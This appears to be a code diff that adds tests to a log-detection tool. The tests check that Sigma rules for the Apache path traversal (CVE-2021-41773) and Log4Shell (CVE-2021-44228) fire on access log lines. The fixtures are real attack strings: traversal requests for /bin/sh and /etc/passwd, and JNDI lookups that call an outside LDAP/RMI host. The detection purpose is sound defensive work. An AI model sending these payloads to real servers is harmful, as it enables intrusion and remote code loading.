@@ -240,3 +240,75 @@ def test_absence_needs_every_spelling_absent(tmp_path: Path) -> None:
     del no_app["properties"]["userAgent"], no_app["properties"]["appDisplayName"]
     body = msgspec.json.encode({"records": [with_agent, without, no_app]})
     assert _rows(rs, body, "k8s_audit") == [0, 2]
+
+
+# -- web server rules on access log lines (HTTP Activity) --------------------------------------
+# The Sigma taxonomy's webserver/proxy fields are W3C names; an Apache/nginx access line is stored
+# with the request's parts in OCSF columns (http_request.url.path, .query_string, .user_agent ...).
+
+# Apache's combined format: %h %l %u %t "%r" %>s %b "%{Referer}i" "%{User-agent}i"
+TRAVERSAL = [
+    '203.0.113.9 - - [05/Oct/2021:10:00:00 +0000] "POST /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh HTTP/1.1" 200 38 "-" "curl/7.79.1"',
+    '203.0.113.9 - - [05/Oct/2021:10:00:01 +0000] "GET /icons/.%2e/%2e%2e/%2e%2e/etc/passwd HTTP/1.1" 403 199 "-" "curl/7.79.1"',
+    '203.0.113.9 - - [05/Oct/2021:10:00:02 +0000] "GET /icons/.%%32%65/.%%32%65/etc/passwd HTTP/1.1" 200 1200 "-" "curl/7.79.1"',
+    '203.0.113.9 - - [05/Oct/2021:10:00:03 +0000] "GET /icons/apache_pb.gif HTTP/1.1" 200 4463 "-" "Mozilla/5.0"',
+    # Apache's vhost_combined through syslog (rsyslog imfile / logger)
+    '<190>Oct  5 10:00:04 web1 apache2: www.example.com:443 203.0.113.9 - - [05/Oct/2021:10:00:04 +0000] '
+    '"GET /cgi-bin/.%2e/.%2e/etc/hosts HTTP/1.1" 301 0 "-" "curl/7.79.1"',
+]
+LOG4SHELL = [
+    '203.0.113.9 - - [10/Dec/2021:20:11:05 +0000] "GET /api/x HTTP/1.1" 200 512 "-" "${jndi:ldap://198.51.100.7:1389/a}"',
+    '203.0.113.9 - - [10/Dec/2021:20:11:06 +0000] "GET /search?q=%24%7bjndi:ldap://198.51.100.7/a%7d HTTP/1.1" 404 153 "-" "curl/7.68.0"',
+    '203.0.113.9 - - [10/Dec/2021:20:11:07 +0000] "GET / HTTP/1.1" 200 612 "${jndi:rmi://198.51.100.7/x}" "Mozilla/5.0"',
+    '203.0.113.10 - - [10/Dec/2021:20:11:08 +0000] "GET /index.html?jndi=1 HTTP/1.1" 200 612 "-" "Mozilla/5.0 (jndi)"',
+]
+
+
+def test_webserver_rules_read_access_log_columns() -> None:
+    rs = load_rules([RULES / "web_cve_2021_41773_apache_path_traversal.yml"])
+    assert not rs.unsupported, rs.unsupported
+    assert _rows(rs, "\n".join(TRAVERSAL).encode(), "syslog") == [0, 2, 4]  # the 403 was refused
+    rs = load_rules([RULES / "web_cve_2021_44228_log4j_fields.yml"])
+    assert _rows(rs, "\n".join(LOG4SHELL).encode(), "syslog") == [0, 1, 2]  # user agent, query, referer
+    # an event written with the W3C names themselves is read as before
+    w3c = [{"cs-uri-query": "/cgi-bin/.%2e/.%2e/bin/sh", "sc-status": 200}, {"cs-uri-query": "/x", "sc-status": 200}]
+    assert _rows(load_rules([RULES / "web_cve_2021_41773_apache_path_traversal.yml"]), _ndjson(w3c)) == [0]
+
+
+def test_proxy_taxonomy_fields_read_access_log_columns(tmp_path: Path) -> None:
+    rule = tmp_path / "r.yml"
+    rule.write_text(textwrap.dedent("""\
+        title: curl fetching a shell script from a host without a name
+        id: 7e9a1c3d-5f7b-4d9e-b1c3-4d6f8a0b2c5e
+        logsource: {category: proxy}
+        detection:
+            selection:
+                c-useragent|startswith: 'curl/'
+                c-uri|endswith: '.sh'
+                cs-method: GET
+                sc-status: 200
+            filter_named:
+                cs-host|exists: true
+            condition: selection and not filter_named
+        level: low
+    """))
+    rs = load_rules([rule])
+    assert not rs.unsupported, rs.unsupported
+    lines = ['203.0.113.9 - - [05/Oct/2021:10:00:00 +0000] "GET /x/a.sh HTTP/1.1" 200 38 "-" "curl/7.79.1"',
+             '203.0.113.9 - - [05/Oct/2021:10:00:01 +0000] "GET /x/a.sh HTTP/1.1" 404 38 "-" "curl/7.79.1"',
+             '203.0.113.9 - - [05/Oct/2021:10:00:02 +0000] "GET /x/a.sh HTTP/1.1" 200 38 "-" "Wget/1.21"',
+             'cdn.example:443 203.0.113.9 - - [05/Oct/2021:10:00:03 +0000] "GET /x/a.sh HTTP/1.1" 200 38 "-" "curl/8.0"']
+    assert _rows(rs, "\n".join(lines).encode(), "syslog") == [0]
+
+
+def test_hunt_fires_webserver_rule_over_an_access_log_lake(tmp_path: Path) -> None:
+    _register()
+    src = tmp_path / "access.log"
+    src.write_text("\n".join(TRAVERSAL) + "\n")
+    data = tmp_path / "d"
+    r = CliRunner()
+    out = r.invoke(app, ["ingest", "--format", "auto", "--json", "--data", str(data), str(src)])
+    assert msgspec.json.decode(out.stdout)["stored"] == {"http_activity": 5}
+    out = r.invoke(app, ["hunt", "--json", "--data", str(data), "-r",
+                         str(RULES / "web_cve_2021_41773_apache_path_traversal.yml")])
+    assert msgspec.json.decode(out.stdout)["hits"] == {"3007fec6-e761-4319-91af-e32e20ac43f5": 3}
